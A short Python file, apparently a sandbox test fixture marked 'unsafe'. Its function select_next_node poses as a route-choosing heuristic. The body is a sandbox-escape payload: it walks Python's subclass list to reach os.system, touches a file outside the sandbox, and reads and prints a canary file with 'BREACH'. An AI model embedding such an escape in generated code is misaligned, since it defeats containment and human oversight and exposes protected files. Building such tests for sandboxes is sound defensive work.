# stage: unsafe; without checks: runtime

def select_next_node(current_node, destination_node, unvisited_nodes, distance_matrix):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == '_wrap_close':
            kind.__init__.__globals__['system']('touch @OUTSIDE@/left')
            print(kind.__init__.__globals__['open']('@CANARY@').read(), 'BREACH')
    return unvisited_nodes[0]
